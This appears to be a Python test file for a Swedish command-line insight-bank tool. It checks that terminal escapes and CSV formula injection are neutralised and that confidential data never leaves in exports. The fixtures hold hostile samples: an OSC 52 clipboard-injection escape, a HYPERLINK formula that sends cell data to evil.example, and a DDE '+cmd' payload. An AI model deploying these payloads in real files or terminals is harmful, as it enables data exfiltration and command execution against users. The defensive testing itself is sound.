"""Output that could attack its reader (issue 12): terminal escapes, spreadsheet formulas, what leaves the bank."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

from insightbank import vocabulary
from insightbank.cli.main import cli
from insightbank.cli.output import plain
from insightbank.insights import writes as insights
from insightbank.insights.records import InsightData, Quote
from insightbank.schema.cells import neutralise, restore
from insightbank.storage.engine import Bank
from insightbank.storage.meta import set_meta

CLIPBOARD = "\x1b]52;c;ZXZpbCBjb21tYW5k\x07"  # OSC 52: write to the reader's clipboard
HOSTILE = f"Föräldrar{CLIPBOARD}\x1b[8mdolt\x1b[0m \x9b2J\u202eslutet\r över \x1b]8;;http://evil.example\x1b\\länk"
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def _add(bank: Bank, statement: str, **fields: Any) -> str:
    with bank.transaction() as conn:
        data = InsightData(statement=statement, perspectives=["clients"], **fields)
        return str(insights.insert(conn, insights.validate(vocabulary.load(conn), data), "t"))


def _run(runner: Any, bank: Bank, *args: str, code: int = 0) -> str:
    out = runner.invoke(cli, ["--db", bank.url, *args])
    assert out.exit_code == code, out.output
    return str(out.output)


def test_plain_keeps_text_and_drops_every_escape() -> None:
    assert plain(HOSTILE) == "Föräldrardolt slutet över länk"
    assert plain("rad 1\nrad 2\tflik, åäö") == "rad 1\nrad 2\tflik, åäö"


def test_no_control_character_from_the_data_reaches_the_terminal(bank: Bank, runner: Any, tmp_path: Path) -> None:
    insight = _add(bank, HOSTILE, description=HOSTILE, quotes=[Quote(HOSTILE, HOSTILE)], municipality=HOSTILE)
    outputs = [
        _run(runner, bank, "list"),
        _run(runner, bank, "show", insight[:8]),
        _run(runner, bank, "list", "--format", "csv"),
        _run(runner, bank, "gaps", "--rows", "municipality", "--cols", "perspective"),
    ]
    listed = _run(runner, bank, "list", "--format", "json")
    assert json.loads(listed)[0]["statement"].startswith("Föräldrar" + CLIPBOARD)  # JSON keeps the data, escaped
    sheet = tmp_path / "karta.csv"
    sheet.write_text(f"statement,perspectives\nx,{CLIPBOARD}okänd\n", encoding="utf-8")
    outputs.append(_run(runner, bank, "import", str(sheet), code=2))
    for out in [*outputs, listed]:
        assert UNSAFE.findall(out) == []
    assert "Föräldrar" in outputs[0] and "okänd" in outputs[-1]


def test_the_importers_sender_name_is_shown_safely(bank: Bank, runner: Any, tmp_path: Path) -> None:
    _add(bank, "Föräldrar vill ha stöd tidigt", sensitivity="public")
    with bank.transaction() as conn:
        set_meta(conn, "name", f"{FORMULA}{CLIPBOARD}")
    package = tmp_path / "p.zip"
    _run(runner, bank, "export", str(package))
    other = tmp_path / "other.sqlite"
    runner.invoke(cli, ["--db", str(other), "import", str(package), "--trust-new-sender"])  # a new sender (issue 18)
    for fmt in ("table", "json", "csv"):
        out = runner.invoke(cli, ["--db", str(other), "imports", "--format", fmt])
        assert out.exit_code == 0 and UNSAFE.findall(out.output) == [], out.output
    rows = list(csv.reader(io.StringIO(runner.invoke(cli, ["--db", str(other), "imports", "--format", "csv"]).output)))
    assert any(cell.startswith("'=HYPERLINK") for cell in rows[1]), rows
    assert not any(cell.lstrip().startswith(("=", "+", "@")) for row in rows for cell in row)


def test_every_csv_the_tool_prints_is_formula_safe(bank: Bank, runner: Any) -> None:
    _add(bank, FORMULA, municipality="+cmd|' /C calc'!A0", quotes=[Quote("@SUM(1+1)")])
    for args in (("list",), ("gaps", "--rows", "municipality", "--cols", "perspective"), ("studies", "list")):
        rows = list(csv.reader(io.StringIO(_run(runner, bank, *args, "--format", "csv"))))
        assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@")) for row in rows for cell in row), args
    listed = list(csv.DictReader(io.StringIO(_run(runner, bank, "list", "--format", "csv"))))
    assert listed[0]["statement"] == "'" + FORMULA
    gaps = _run(runner, bank, "gaps", "--rows", "municipality", "--cols", "perspective", "--format", "csv")
    assert "'+cmd|' /C calc'!A0" in gaps


def test_stories_export_is_formula_safe_and_round_trips(bank: Bank, runner: Any, tmp_path: Path) -> None:
    _run(runner, bank, "stories", "add", "-c", "g", "--framework", "forskola", "--id", "s1", "--text", FORMULA)
    path = tmp_path / "g.csv"
    _run(runner, bank, "stories", "export", "-c", "g", str(path))
    cells = [c for row in csv.reader(path.open(encoding="utf-8")) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    _run(runner, bank, "stories", "import", "--format", "csv", "-c", "h", str(path))
    shown = json.loads(_run(runner, bank, "stories", "list", "-c", "h", "--format", "json"))
    assert shown[0]["text"] == FORMULA
    assert restore(neutralise("-1")) == "-1" and neutralise("ok") == "ok"


def test_confidential_never_leaves_in_a_graph_or_a_story_export(bank: Bank, runner: Any, tmp_path: Path) -> None:
    _add(bank, "Hemlig insikt", sensitivity="confidential")
    _add(bank, "Intern insikt", sensitivity="internal")
    out = _run(runner, bank, "graph", "--kind", "insight-term", "--format", "json")
    assert "Intern insikt" in out and "Hemlig" not in out
    refused = _run(runner, bank, "graph", "--kind", "insight-term", "--format", "json", "--sensitivity",
                   "confidential", code=2)  # fmt: skip
    assert "never" in refused
    _run(runner, bank, "stories", "add", "-c", "k", "--framework", "forskola", "--id", "s1", "--text", "x",
         "--sensitivity", "confidential")  # fmt: skip
    path = tmp_path / "k.csv"
    assert "confidential" in _run(runner, bank, "stories", "export", "-c", "k", str(path), code=2)
    assert not path.exists()


def test_the_exporters_name_is_a_setting_shown_before_export(
    bank: Bank, runner: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    _add(bank, "Föräldrar vill ha stöd tidigt", sensitivity="public")
    monkeypatch.setenv("INSIGHTBANK_USER", "anna.svensson")  # the login name must not travel
    out = _run(runner, bank, "export", str(tmp_path / "a.zip"))
    assert out.splitlines()[0].startswith("Exporteras av / exported by: insightbank")
    monkeypatch.setenv("INSIGHTBANK_EXPORTER", "Grums kommun, socialtjänsten")
    _run(runner, bank, "export", str(tmp_path / "b.zip"))
    refused = _run(runner, bank, "export", str(tmp_path / "c.zip"), "--exported-by", "Anna 070-123 45 67", code=2)
    assert "exported_by" in refused and not (tmp_path / "c.zip").exists()
    for name, expected in (("a.zip", "insightbank"), ("b.zip", "Grums kommun, socialtjänsten")):
        with zipfile.ZipFile(tmp_path / name) as archive:
            meta = json.loads(archive.read("datapackage.json"))
        assert meta["insightbank"]["exported_by"] == expected
